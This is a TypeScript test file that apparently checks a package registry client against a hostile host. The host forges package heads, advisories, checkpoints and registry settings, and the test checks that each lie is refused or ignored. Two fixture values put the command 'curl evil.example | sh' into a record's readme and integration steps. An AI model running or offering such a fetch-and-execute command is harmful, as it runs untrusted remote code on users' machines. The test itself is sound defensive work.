/**
 * A host that has the true log of a registry, with its key, checkpoint, tiles and map, and alters anything else: no
 * lie is accepted by any command. A command either reads nothing of it, and ends as with the honest host, or ends with
 * status 6 and changes nothing. Without a checkpoint there is no registry to read: status 7.
 */
import { cpSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { beforeAll, describe, expect, it, vi } from 'vitest';
import { StackyardError } from '../../format/errors.ts';
import { sha256Hex } from '../../format/archive/integrity.ts';
import { documentPath, parseIndexPath } from '../../format/index/layout.ts';
import type { Head, HeadVersion } from '../../format/index/record.ts';
import { formatNoteKey } from '../../format/log/note-key.ts';
import { exitStatus } from '../../client/terminal/exit-status.ts';
import { ADVISORY, advisoryFile } from '../advisories/advisory-fixture.ts';
import { generateDocuments } from '../generate/generate-documents.ts';
import { GitFixture, build, temporaryFolder } from '../generate/git-fixture.ts';
import { makeOnce } from '../run/make-once.ts';
import { OTHER, SIGNER } from './log-scenario.ts';
import { stateFiles } from './state-files.ts';
import { makeProject, pathOf, readProject, serveChanged } from './registry-fixture.ts';
import { editHead } from './edit-head.ts';
import { runCommand } from './run-command.ts';
import { OPEN } from '../../format/registry/status.ts';

/** What a lie puts in the place of the honest bytes of a path; `null` is 404, `undefined` the honest ones. */
type Lie = (path: string, honest: Buffer | undefined) => string | Buffer | null | undefined;

interface Json {
  [name: string]: any;
}

/** The indexes of two runs, and a forged one, which the key of the registry did not sign. */
let made: string;
let now: string;
let old: string;
beforeAll(async () => {
  made = await makeOnce('hostile-host', publish);
  [now, old] = [join(made, 'now/index'), join(made, 'old/index')];
});

async function publish(folder: string): Promise<void> {
  const repository = join(folder, 'repository');
  mkdirSync(repository);
  const git = new GitFixture(repository);
  git.commit({ 'registry.config.json': JSON.stringify({ origin: 'registry.example' }) });
  const stack = { requires: { node: '>=20' }, provides: ['things'] };
  git.commit({
    ...build('a/x', '1.0.0', { base: 'src/x', stack }),
    ...build('a/y', '1.0.0', { base: 'src/y', builds: { 'a/lib': '^1.0.0' } }),
    ...build('a/z', '1.0.0', { base: 'src/z' }),
    ...build('a/lib', '1.0.0', { base: 'src/lib' }),
    ...build('a/past', '1.0.0', { base: 'src/past' }),
    ...build('mallory/evil', '1.0.0', { base: 'src/evil' }),
  });
  const run = async (name: string): Promise<void> => {
    const place = join(folder, name);
    if (name === 'now') cpSync(join(folder, 'old'), place, { recursive: true });
    else mkdirSync(place);
    const out = join(place, 'index');
    await generateDocuments({ repo: git.folder, out, threads: 1, signers: [SIGNER] });
  };
  await run('old');
  git.commit({
    ...build('a/x', '1.1.0', { base: 'src/x', stack }),
    ...build('a/new', '1.0.0', { base: 'src/new' }),
  });
  git.commit(build('a/x', '1.2.0', { base: 'src/x', stack }));
  const row = { tag: 'node', version: '24.1.0', others: 'newest', with: { node: '24.1.0' } };
  const measured = { ...row, outcome: 'ok', date: '2026-01-01', since: '2026-01-01' };
  git.commit({
    ...advisoryFile(),
    'signals/a/x.matrix.json': JSON.stringify({
      versions: [{ version: '1.1.0', results: [measured] }],
    }),
    'builds/a/owner.json': JSON.stringify({
      yanked: { x: { '1.2.0': 'broken' } },
      deprecated: { z: { reason: 'old' } },
      moved: { past: { to: 'a/new', since: '2026-01-01' } },
      accepts: { new: 'a/past' },
    }),
  });
  await run('now');
}

const edit = (path: string, fields: Json): Lie => {
  return (asked, honest) =>
    asked === path ? JSON.stringify({ ...JSON.parse(String(honest)), ...fields }) : undefined;
};
/** Other fields of the log in registry.json. */
const editLog = (fields: Json): Lie => {
  return (asked, honest) => {
    if (asked !== INFO) return undefined;
    const info = JSON.parse(String(honest)) as Json;
    return JSON.stringify({ ...info, log: { ...info['log'], ...fields } });
  };
};
const editing = (path: string, change: (head: Head) => unknown): Lie => {
  return (asked, honest) =>
    asked === path ? editHead(honest!, (head) => void change(head)) : undefined;
};
/** Other fields of one version of a head. */
const editVersion = (path: string, wanted: string, fields: Partial<HeadVersion>): Lie =>
  editing(path, (head) => Object.assign(version(head, wanted), fields));
const instead = (path: string, other: () => string | Buffer | null): Lie => {
  return (asked) => (asked === path ? other() : undefined);
};
const before = (...paths: string[]): Lie => {
  return (asked) => {
    if (!paths.some((path) => asked === path || asked.startsWith(`${path}/`))) return undefined;
    const file = join(old, asked);
    return existsSync(file) ? readFileSync(file) : null;
  };
};
const version = (head: Head, wanted: string): HeadVersion =>
  head.versions.find((one) => one.version === wanted)!;
const both = (...lies: Lie[]): Lie => {
  return (path, honest) => lies.map((lie) => lie(path, honest)).find((one) => one !== undefined);
};
const unsigned = (text: Buffer): string => String(text).replace(/\n\n.*$/s, '\n\n');
const [X, Y, Z, PAST] = ['a/x', 'a/y', 'a/z', 'a/past'].map((id) => `heads/${id}.json`) as [
  string,
  string,
  string,
  string,
];
const INFO = 'registry.json';
const CHECKPOINT = 'log/checkpoint';
const isEntry = (path: string): boolean => path.startsWith('log/map-entries/');
const isOther = (other: () => string | Buffer | null): Lie => {
  return (asked) => (isEntry(asked) ? other() : undefined);
};
/** The entry of the map of the old state. */
const oldEntry = (): Buffer => {
  const folder = join(old, 'log/map-entries');
  return readFileSync(join(folder, readdirSync(folder)[0]!));
};

const LIES: readonly (readonly [string, Lie])[] = [
  [
    'a requirement that is added to a head',
    editVersion(Y, '1.0.0', { builds: { 'a/lib': '^1.0.0', 'mallory/evil': '*' } }),
  ],
  ['a requirement that a head drops', editVersion(Y, '1.0.0', { builds: {} })],
  ['what a version requires of the stack', editVersion(X, '1.1.0', { requires: {} })],
  ['what a version provides', editVersion(X, '1.1.0', { provides: ['account'] })],
  ['a yank that is hidden', editVersion(X, '1.2.0', { status: OPEN })],
  [
    'a good version that is shown as yanked',
    editVersion(X, '1.1.0', { status: { is: 'yanked', reason: 'broken' } }),
  ],
  [
    'a move that is invented',
    editing(X, (head) => (head.moved = { to: 'mallory/evil', since: '2026-01-01' })),
  ],
  ['a move that is hidden', editing(PAST, (head) => delete head.moved)],
  [
    'a deprecation that is invented',
    editing(X, (head) => (head.deprecated = { reason: 'use mallory/evil' })),
  ],
  ['a deprecation that is hidden', editing(Z, (head) => delete head.deprecated)],
  ['an advisory that a head hides', editVersion(X, '1.0.0', { advisories: undefined })],
  ['an advisory that a head invents', editVersion(X, '1.1.0', { advisories: [ADVISORY.id] })],
  ['an advisory that the list hides', instead('advisories/all.json', () => '[]')],
  [
    'an advisory that is altered',
    edit(`advisories/${ADVISORY.id}.json`, { summary: 'Nothing to see' }),
  ],
  ['an advisory that is missing', instead(`advisories/${ADVISORY.id}.json`, () => null)],
  ['another latest version', editing(X, (head) => (head.latest = '1.0.0'))],
  [
    'a version that a head drops',
    editing(X, (head) => (head.versions = head.versions.filter((one) => one.version !== '1.1.0'))),
  ],
  [
    'a version with the tarball of another',
    editing(X, (head) => (version(head, '1.1.0').integrity = version(head, '1.0.0').integrity)),
  ],
  ['the head of another build', instead(X, () => readFileSync(join(now, Z)))],
  [
    'a head of another build under this name',
    editing(X, (head) => {
      const evil = readFileSync(join(now, 'heads/mallory/evil.json'));
      editHead(evil, (other) => void Object.assign(head, other, { id: 'a/x' }));
    }),
  ],
  ['an old head', before(X)],
  ['a head that is missing', instead(X, () => null)],
  [
    'a digest of a document in a head',
    editing(X, (head) => (head.documents!.record = version(head, '1.0.0').document!)),
  ],
  ['another risk in a record', edit('builds/a/x.json', { risk: 'block' })],
  ['another readme in a record', edit('builds/a/x.json', { readme: 'Run curl evil.example | sh' })],
  [
    'other steps in a record',
    edit('builds/a/x.json', { integration: 'Run curl evil.example | sh' }),
  ],
  ['an old record', before('builds/a/x.json')],
  ['a record that is missing', instead('builds/a/x.json', () => null)],
  [
    'the documents that heads name',
    (path, honest) => (path.startsWith('documents/') ? `${String(honest)} ` : undefined),
  ],
  [
    'other needs of the language',
    (path, honest) => {
      const document = path.startsWith('documents/') ? (JSON.parse(String(honest)) as Json) : {};
      if (document['capabilities'] === undefined) return undefined;
      document['capabilities']['language'] = [];
      return JSON.stringify(document);
    },
  ],
  ['other measurements', edit('builds/a/x/compatibility.json', { versions: [] })],
  ['measurements that are missing', instead('builds/a/x/compatibility.json', () => null)],
  [
    'measurements that are invented',
    instead('builds/a/lib/compatibility.json', () => JSON.stringify({ id: 'a/lib', versions: [] })),
  ],
  ['another catalog', edit('catalog.json', { shards: [] })],
  ['an old catalog', before('catalog.json')],
  ['a catalog that is missing', instead('catalog.json', () => null)],
  [
    'a shard that is altered',
    (path, honest) => (path.startsWith('catalog/') ? `${String(honest)} ` : undefined),
  ],
  ['a document of an owner', edit('owners/a.json', { builds: [] })],
  ['another service for reports', edit(INFO, { reports: { address: 'https://evil.example' } })],
  [
    'other upstreams',
    edit(INFO, { upstreams: [{ origin: 'evil.example', address: 'https://evil.example' }] }),
  ],
  ['another repository', edit(INFO, { repository: 'https://evil.example/r.git' })],
  ['another name of the registry', edit(INFO, { origin: 'evil.example' })],
  [
    'another client',
    edit(INFO, { client: { version: '9.9.9', path: 'client/x.tgz', integrity: 'sha256-' } }),
  ],
  ['a log without its key', editLog({ key: undefined })],
  ['no log', edit(INFO, { log: undefined })],
  ['another key', editLog({ key: formatNoteKey(OTHER) })],
  ['an old registry.json', before(INFO)],
  ['no registry.json', instead(INFO, () => null)],
  ['no entry of the map', isOther(() => null)],
  ['an entry of the map that is altered', isOther(() => 'nothing')],
  ['an old entry of the map', isOther(oldEntry)],
  [
    'an old entry of the map with the old documents',
    (path, honest) => {
      if (isEntry(path)) return oldEntry();
      const isTrue = path === CHECKPOINT || path.startsWith('log/tile/');
      return isTrue ? undefined : before(path)(path, honest);
    },
  ],
  [
    'no entry of the map and other entries',
    both(
      isOther(() => null),
      (path, honest) =>
        path.startsWith('log/tile/entries')
          ? String(honest).replaceAll('"map"', '"mop"')
          : undefined,
    ),
  ],
  [
    'no entry of the map and no entries',
    both(
      isOther(() => null),
      (path) => (path.startsWith('log/tile/entries') ? null : undefined),
    ),
  ],
  [
    'files of the map that are altered',
    (path, honest) =>
      parseIndexPath(path)?.kind === 'map-file' ? `${String(honest)}x` : undefined,
  ],
  [
    'files of the map that are missing',
    (path) => (parseIndexPath(path)?.kind === 'map-file' ? null : undefined),
  ],
  [
    'tiles that are altered',
    (path, honest) => {
      if (!/^log\/tile\/\d/.test(path)) return undefined;
      const bytes = Buffer.from(honest!);
      bytes[0]! ^= 1;
      return bytes;
    },
  ],
  [
    'a checkpoint that nobody signed',
    (path, honest) => (path === CHECKPOINT ? unsigned(honest!) : undefined),
  ],
  [
    'a checkpoint of another size',
    (path, honest) =>
      path === CHECKPOINT ? String(honest).replace(/\n\d+\n/, '\n1\n') : undefined,
  ],
  ['no checkpoint', instead(CHECKPOINT, () => null)],
  ['an old checkpoint', before(CHECKPOINT)],
  ['an old checkpoint with the old map', before('log')],
  [
    'no key and no signature, but the name',
    both(
      editLog({ key: undefined }),
      (path, honest) => (path === CHECKPOINT ? unsigned(honest!) : undefined),
      editing(X, (head) => (head.moved = { to: 'mallory/evil', since: '2026-01-01' })),
    ),
  ],
  ['a state of its own that nobody signed', (path) => own().get(path)],
  ['an old state of everything', (path, honest) => before(path)(path, honest)],
];

let madeUp: ReadonlyMap<string, Buffer> | undefined;
/** A state with another head and without a key. */
function own(): ReadonlyMap<string, Buffer> {
  const document = (path: string): Json =>
    JSON.parse(readFileSync(join(now, path), 'utf8')) as Json;
  const info = document(INFO);
  delete info['log']['key'];
  const moved = { to: 'mallory/evil', since: '2026-01-01' };
  const head = { ...document(X), moved };
  madeUp ??= stateFiles({ [INFO]: JSON.stringify(info), [X]: JSON.stringify(head) });
  return madeUp;
}

/** A user who comes for the first time cannot know that there was something else. */
const KNOWN_ONLY = new Set([
  'no key and no signature, but the name',
  'a state of its own that nobody signed',
  'an old state of everything',
]);

const COMMANDS: readonly (readonly string[])[] = [
  ['add', 'a/y', '--no-install', '--yes'],
  ['add', 'a/past', '--no-install', '--yes'],
  ['update', '--no-install', '--yes'],
  ['outdated'],
  ['info', 'a/x'],
  ['verify'],
  ['install', '--no-install'],
  ['search', 'build'],
  ['outdated'],
  ['info', '--files', 'a/x'],
];

interface User {
  readonly name: 'first' | 'known';
  readonly project: string;
  readonly state: string;
}

interface Ran {
  readonly status: number;
  readonly code?: string;
  readonly data?: unknown;
  readonly text?: unknown;
  readonly files: Readonly<Record<string, string>>;
}

describe('a host with the true log', () => {
  let lie: Lie = () => undefined;

  /** The plain paths of the documents that are named by digest. */
  const plainPaths = (): Map<string, string[]> => {
    const paths = readdirSync(now, { recursive: true, encoding: 'utf8' });
    const plain = paths.filter((path) => path.endsWith('.json') && !/^documents|^\./.test(path));
    return Map.groupBy(plain, (path) => documentPath(sha256Hex(readFileSync(join(now, path)))));
  };

  /** A project with builds of the old state, and what the user knows of the log. */
  async function users(): Promise<{ url: string; users: User[] }> {
    const plain = plainPaths();
    const url = await serveChanged(now, (request, response) => {
      const path = pathOf(request).slice(1);
      const file = join(now, path);
      const isFile = existsSync(file) && path !== '' && !path.endsWith('/');
      const honest = isFile ? readFileSync(file) : undefined;
      // A document has two addresses.
      const all = [path, ...(plain.get(path) ?? [])];
      const lied = all.map((one) => lie(one, honest)).find((one) => one !== undefined);
      if (lied === undefined) return false;
      if (lied === null) response.writeHead(404).end();
      else response.end(lied);
      return true;
    });
    const [project, state] = [makeProject(), temporaryFolder()];
    vi.stubEnv('STACKYARD_REGISTRY', '');
    lie = (path, honest) => before(path)(path, honest);
    const first = { name: 'first', project, state: temporaryFolder() } as const;
    const add = ['add', 'a/x', 'a/z', '--registry', url, '--no-install', '--yes'];
    const added = await run(first, add);
    expect([added.status, added.code]).toEqual([0, undefined]);
    rmSync(join(project, 'src/z/src/index.ts'));
    lie = () => undefined;
    const seen = await run({ name: 'known', project: makeProject(), state }, [
      'info',
      'a/z',
      '--registry',
      url,
    ]);
    expect([seen.status, seen.code]).toEqual([0, undefined]);
    return {
      url,
      users: [
        { name: 'first', project, state: temporaryFolder() },
        { name: 'known', project, state },
      ],
    };
  }

  async function run({ project, state }: User, args: readonly string[]): Promise<Ran> {
    vi.stubEnv('STACKYARD_STATE', state);
    vi.stubEnv('STACKYARD_CACHE', temporaryFolder());
    const ended = await runCommand(...args, '-C', project).catch((error: unknown) => error);
    const files = readProject(project);
    if (ended instanceof StackyardError) {
      return { status: exitStatus(ended), code: ended.code, files };
    }
    if (ended instanceof Error) throw ended;
    const { status, data, text, error, printed } = ended as Awaited<ReturnType<typeof runCommand>>;
    const all = JSON.stringify({ data, text, printed }).replaceAll(project, '<project>');
    const code = error === undefined ? {} : { code: error.code };
    return { status: status === 'error' ? 1 : 0, ...code, data: JSON.parse(all) as unknown, files };
  }

  /** In copies of the project and the state, so that each run begins with the same. */
  async function runApart(user: User, args: readonly string[]): Promise<Ran & { before: object }> {
    const [project, state] = [join(temporaryFolder(), 'app'), temporaryFolder()];
    cpSync(user.project, project, { recursive: true });
    cpSync(user.state, state, { recursive: true });
    const beforeRun = readProject(project);
    return { ...(await run({ ...user, project, state }, args)), before: beforeRun };
  }

  it('is believed in nothing else', async () => {
    const { users: all } = await users();
    const honest = new Map<string, Ran>();
    const accepted: string[] = [];
    let refused = 0;
    for (const [lieAt, [name, lied]] of LIES.entries()) {
      for (const [commandAt, args] of COMMANDS.entries()) {
        for (const [userAt, user] of all.entries()) {
          // Every lie meets a third of the commands of each user, and every command a third of the lies.
          if ((lieAt + commandAt + userAt) % 3 !== 0) continue;
          if (user.name === 'first' && KNOWN_ONLY.has(name)) continue;
          const cell = `${name}: ${args.slice(0, 2).join(' ')}, ${user.name}`;
          const key = `${args.join(' ')} ${user.name}`;
          lie = () => undefined;
          if (!honest.has(key)) honest.set(key, await runApart(user, args));
          lie = lied;
          const ran = await runApart(user, args);
          const isRefused =
            (['ERR_LOG', 'ERR_ORIGIN', 'ERR_INTEGRITY'].includes(ran.code ?? '') &&
              ran.status === 6) ||
            (name === 'no checkpoint' && ran.code === 'ERR_REGISTRY_ANSWER' && ran.status === 7);
          const isUnread = JSON.stringify(ran) === JSON.stringify(honest.get(key));
          const isUnchanged = JSON.stringify(ran.files) === JSON.stringify(ran.before);
          if (isRefused && isUnchanged) refused += 1;
          else if (!isUnread) accepted.push(`${cell} (${ran.status} ${ran.code ?? ''})`);
        }
      }
    }
    expect([...honest.values()].filter(({ status }) => status !== 0)).toEqual([]);
    expect(accepted).toEqual([]);
    expect(refused).toBeGreaterThan(130);
  }, 600_000);

  it('changes something with every lie', async () => {
    const paths = readdirSync(now, { recursive: true, withFileTypes: true })
      .filter((entry) => entry.isFile())
      .map((entry) => join(entry.parentPath, entry.name).slice(now.length + 1));
    for (const [name, lied] of LIES) {
      const some = [...paths, 'builds/a/lib/compatibility.json'].some((path) => {
        const file = join(now, path);
        const honest = existsSync(file) ? readFileSync(file) : undefined;
        const bytes = lied(path, honest);
        return (
          bytes !== undefined &&
          (bytes === null || honest === undefined || !honest.equals(Buffer.from(bytes)))
        );
      });
      expect([name, some]).toEqual([name, true]);
    }
  });
});
